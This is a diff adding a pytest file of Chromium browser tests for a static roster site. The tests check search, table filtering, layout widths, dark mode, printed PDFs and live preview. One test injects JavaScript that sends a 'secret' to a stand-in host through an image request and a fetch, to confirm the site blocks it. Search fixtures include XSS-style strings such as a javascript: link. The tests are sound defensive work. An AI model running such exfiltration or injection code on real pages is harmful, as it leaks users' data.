@@ -1,0 +1,300 @@
+"""The built site as a reader has it: in Chromium, wide and narrow, light and dark, typed into and printed."""
+
+from __future__ import annotations
+
+import io
+import threading
+from collections.abc import Iterator
+from functools import partial
+from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+from browser import EXECUTABLE, Browser, browser
+from pypdf import PdfReader
+from small_site import NAMES, build_site, people
+
+from generator.building.serve import Preview
+from generator.problems import UsageError
+
+pytestmark = [
+    pytest.mark.slow,
+    pytest.mark.browser,
+    pytest.mark.skipif(EXECUTABLE is None, reason="Chromium is not installed"),
+]
+# The site stands below a path, as it does on a git host.
+BELOW = "goose"
+QUERY = "document.querySelector('[data-md-component=search-query]')"
+HITS = "[...document.querySelectorAll('.record-hits a')]"
+
+
+class _Quiet(SimpleHTTPRequestHandler):
+    def log_message(self, *_: object) -> None:
+        pass
+
+
+@pytest.fixture(scope="module")
+def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
+    """A draft of the internal edition, under a path."""
+    folder = tmp_path_factory.mktemp("served")
+    job = build_site(folder, edition="internal", edition_title="内部版", draft=True)
+    (folder / "host").mkdir()
+    job.out.rename(folder / "host" / BELOW)
+    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(_Quiet, directory=str(folder / "host")))
+    thread = threading.Thread(target=server.serve_forever, args=(0.05,))
+    thread.start()
+    yield f"http://127.0.0.1:{server.server_address[1]}/{BELOW}/"
+    server.shutdown()
+    server.server_close()
+    thread.join()
+
+
+@pytest.fixture(scope="module")
+def chromium() -> Iterator[Browser]:
+    with browser() as page:
+        yield page
+
+
+PAGES = ["", "roster/", "rules/", "towns/", "people/P0001/", "people/P0002/"]
+
+
+@pytest.mark.parametrize("path", PAGES)
+def test_nothing_is_fetched_from_elsewhere_and_nothing_breaks(
+    path: str, served: str, chromium: Browser
+) -> None:
+    chromium.size(1280, 900)
+    chromium.open(served + path)
+    outside = [url for url in chromium.requests() if not url.startswith((served, "data:"))]
+    assert outside == []
+    assert chromium.complaints() == []
+
+
+@pytest.mark.parametrize("path", PAGES)
+@pytest.mark.parametrize("width", [360, 390, 768, 1280])
+def test_no_page_is_wider_than_the_screen(path: str, width: int, served: str, chromium: Browser) -> None:
+    chromium.size(width, 800)
+    chromium.open(served + path)
+    assert chromium.evaluate("document.documentElement.scrollWidth") <= width
+
+
+def test_names_show_as_typed(served: str, chromium: Browser) -> None:
+    chromium.size(1280, 900)
+    chromium.open(served + "roster/")
+    cells = chromium.evaluate(
+        "[...document.querySelectorAll('tbody td:first-child')].map(e => e.textContent)"
+    )
+    assert cells == [row["name"] for row in people()]
+    for number, name in enumerate(NAMES):
+        chromium.open(f"{served}people/P{number:04}/")
+        assert chromium.evaluate("document.querySelector('h1').textContent") == name
+        assert chromium.evaluate("document.title") == f"{name} - 领头雁"
+
+
+def _search(chromium: Browser, url: str, words: str) -> None:
+    chromium.size(1280, 900)
+    chromium.open(url)
+    chromium.evaluate(f"{QUERY}.focus()")
+    chromium.type(words)
+
+
+@pytest.mark.parametrize(
+    "words, first",
+    [
+        ("李示范", "李示范"),
+        ("示范", "李示范"),
+        ("lsf", "李示范"),
+        ("LiShiFan", "李示范"),
+        ("li shi fan", "李示范"),
+        ("shan", "单 & \"雄\" 'x'"),
+        ("sx", "单 & \"雄\" 'x'"),
+        ("990101100004", "𠮷𬭎䶮"),
+        ("𬭎", "𠮷𬭎䶮"),
+        ("阿依古丽买买提", "阿依古丽·买买提"),
+        ("<b>", "<b>|{{x}}"),
+        ("javascript:", "[a](javascript:alert(1))"),
+        ("示范 青山", "李示范"),
+    ],
+)
+def test_records_are_found_exactly(words: str, first: str, served: str, chromium: Browser) -> None:
+    _search(chromium, served + "rules/", words)
+    chromium.until(f"{HITS}.length")
+    assert chromium.evaluate(f"{HITS}[0].querySelector('strong').textContent") == first
+    assert chromium.complaints() == []
+
+
+def test_a_name_that_does_not_exist_is_not_found(served: str, chromium: Browser) -> None:
+    _search(chromium, served, "查无此人")
+    chromium.until("document.querySelector('.md-search-result__meta').textContent.includes('没有找到')")
+    assert chromium.evaluate(f"{HITS}.length") == 0
+
+
+def test_words_of_the_pages_are_found_in_the_same_box(served: str, chromium: Browser) -> None:
+    _search(chromium, served, "报送")
+    chromium.until("document.querySelector('.md-search-result__list a') !== null")
+    assert "办法" in chromium.evaluate("document.querySelector('.md-search-result__list').textContent")
+
+
+def test_the_keyboard_leads_to_a_record(served: str, chromium: Browser) -> None:
+    _search(chromium, served + "people/P0009/", "lsf")
+    chromium.until(f"{HITS}.length")
+    chromium.press("Enter")
+    chromium.until("location.pathname.endsWith('/people/P0000/')")
+    _search(chromium, served, "人1")
+    chromium.until(f"{HITS}.length > 2")
+    chromium.press("ArrowDown")
+    chromium.press("ArrowDown")
+    assert chromium.evaluate("document.activeElement.closest('.record-hits') !== null")
+    assert chromium.evaluate(f"document.activeElement === {HITS}[1]")
+
+
+def test_a_phone_can_search(served: str, chromium: Browser) -> None:
+    chromium.size(390, 844)
+    chromium.open(served + "people/P0001/")
+    chromium.evaluate("document.querySelector('label[for=__search]').click()")
+    chromium.evaluate(f"{QUERY}.focus()")
+    chromium.type("示范")
+    chromium.until(f"{HITS}.length")
+    # The results slide in from the side.
+    place = f"{HITS}[0].getBoundingClientRect()"
+    chromium.until(f"{place}.left >= 0 && {place}.right <= 390")
+    assert chromium.evaluate(f"{place}.height") >= 40
+
+
+def test_a_table_can_be_filtered_narrowed_and_sorted(served: str, chromium: Browser) -> None:
+    chromium.size(1280, 900)
+    chromium.open(served + "roster/")
+    shown = "[...document.querySelectorAll('.data-table tbody tr')].filter(r => !r.hidden)"
+    count = "document.querySelector('.data-count').textContent"
+    assert chromium.evaluate(count) == "共 80 条"
+    chromium.evaluate("document.querySelector('.data-query').focus()")
+    chromium.type("绿水 高中")
+    assert chromium.evaluate(f"{shown}.length") == 20
+    assert chromium.evaluate(count) == "20 / 80 条"
+    facets = chromium.evaluate(
+        "[...document.querySelectorAll('select.data-facet')[0].options].map(o => o.text)"
+    )
+    assert facets == ["学历：全部", "初中（20）", "高中（20）", "大专（20）", "本科（20）"]
+    chromium.open(served + "roster/")
+    chromium.evaluate(
+        "(s => { s.value = '=本科'; s.dispatchEvent(new Event('change')) })(document.querySelector('select.data-facet'))"
+    )
+    assert chromium.evaluate(f"new Set({shown}.map(r => r.cells[1].textContent)).size") == 1
+    chromium.evaluate("document.querySelectorAll('.data-sort')[3].click()")
+    votes = chromium.evaluate(f"{shown}.map(r => Number(r.cells[3].textContent))")
+    assert votes == sorted(votes)
+    chromium.evaluate("document.querySelectorAll('.data-sort')[3].click()")
+    assert chromium.evaluate(f"{shown}.map(r => Number(r.cells[3].textContent))") == votes[::-1]
+    assert chromium.evaluate("document.querySelectorAll('th')[3].ariaSort") == "descending"
+
+
+def test_levels_sort_in_their_own_order(served: str, chromium: Browser) -> None:
+    chromium.size(1280, 900)
+    chromium.open(served + "roster/")
+    chromium.evaluate("document.querySelectorAll('.data-sort')[1].click()")
+    levels = chromium.evaluate("[...document.querySelectorAll('tbody tr')].map(r => r.cells[1].textContent)")
+    assert list(dict.fromkeys(levels)) == ["初中", "高中", "大专", "本科"]
+
+
+def test_facts_stand_at_the_foot(served: str, chromium: Browser) -> None:
+    chromium.size(1280, 900)
+    for path in ("", "people/P0003/"):
+        chromium.open(served + path)
+        foot = chromium.evaluate("document.querySelector('.site-facts').innerText")
+        assert "数据截至 2026-11-20" in foot
+        assert "0123456789ab" in foot
+        assert "内部版（草稿）" in foot
+
+
+def test_dark_follows_the_system_and_stays_readable(served: str, chromium: Browser) -> None:
+    colour = "getComputedStyle(document.querySelector('{}')).{}.match(/[\\d.]+/g).slice(0, 3).map(Number)"
+    for dark in (False, True):
+        chromium.size(1280, 900, dark=dark)
+        chromium.open(served)
+        ground, ink = (
+            sum(chromium.evaluate(colour.format(*place)))
+            for place in (("body", "backgroundColor"), (".chart text", "fill"))
+        )
+        assert (ground < 150) == dark
+        assert abs(ground - ink) > 400
+
+
+@pytest.mark.parametrize("path", ["rules/", "people/P0001/"])
+def test_every_printed_sheet_is_marked(path: str, served: str, chromium: Browser) -> None:
+    chromium.size(1280, 900)
+    chromium.open(served + path)
+    sheets = PdfReader(io.BytesIO(chromium.pdf())).pages
+    assert [round(float(side) * 25.4 / 72) for side in sheets[0].mediabox[2:]] == [210, 297]
+    for sheet in sheets:
+        text = sheet.extract_text()
+        assert "草稿" in text
+        assert "内部资料" in text
+        assert "队伍" not in text
+        assert "http" not in text
+
+
+def test_a_long_table_prints_with_its_heading_on_every_sheet(served: str, chromium: Browser) -> None:
+    chromium.size(1280, 900)
+    chromium.open(served + "roster/")
+    sheets = [sheet.extract_text() for sheet in PdfReader(io.BytesIO(chromium.pdf())).pages]
+    assert len(sheets) > 1
+    assert all("学历" in text and "草稿" in text for text in sheets)
+    assert "在表中查找" not in "".join(sheets)
+
+
+def test_the_site_opens_without_scripts_or_network_rights(served: str, chromium: Browser) -> None:
+    chromium.size(1280, 900)
+    chromium.call("Emulation.setScriptExecutionDisabled", value=True)
+    try:
+        chromium.call("Page.navigate", url=served + "people/P0000/")
+        chromium.until(
+            "document.readyState === 'complete' && document.querySelector('h1')?.textContent === '李示范'"
+        )
+        assert "学历" in chromium.evaluate("document.querySelector('article').innerText")
+    finally:
+        chromium.call("Emulation.setScriptExecutionDisabled", value=False)
+
+
+def test_a_hostile_page_sends_nothing_out(tmp_path: Path, chromium: Browser, served: str) -> None:
+    chromium.size(1280, 900)
+    chromium.open(served)
+    before = len(chromium.complaints())
+    chromium.evaluate(
+        "new Image().src = 'http://127.0.0.2:9/?secret'; fetch('http://127.0.0.2:9/').catch(() => 0)"
+    )
+    assert len(chromium.complaints()) >= before + 2
+
+
+def test_the_preview_reloads_a_page_and_shows_what_is_wrong(tmp_path: Path, chromium: Browser) -> None:
+    job = build_site(tmp_path)
+    source = tmp_path / "source.txt"
+    source.write_text("第一版", "utf-8")
+    page = job.out / "rules" / "index.html"
+    original = page.read_text("utf-8")
+    said: list[str] = []
+
+    def rebuild(_: set[Path]) -> None:
+        words = source.read_text("utf-8")
+        if "坏" in words:
+            raise UsageError("第3行<b>有误</b>")
+        page.write_text(original.replace("</h1>", f" {words}</h1>"), "utf-8")
+
+    with Preview(rebuild, job.out, [source], 0) as preview:
+        thread = threading.Thread(target=preview.run, args=(said.append,))
+        thread.start()
+        try:
+            chromium.size(1280, 900)
+            chromium.open(preview.url + "rules/")
+            title = "(document.querySelector('h1')?.textContent ?? '')"
+            chromium.until(f"{title}.includes('第一版')")
+            source.write_text("第二版", "utf-8")
+            chromium.until(f"{title}.includes('第二版')")
+            source.write_text("坏", "utf-8")
+            chromium.until("document.body?.innerText.includes('第3行<b>有误</b>')")
+            assert "第二版" in chromium.evaluate(title)
+            source.write_text("第三版", "utf-8")
+            chromium.until(f"{title}.includes('第三版')")
+            assert "有误" not in chromium.evaluate("document.body.innerText")
+            assert chromium.complaints() == []
+        finally:
+            preview.close()
+            thread.join(20)
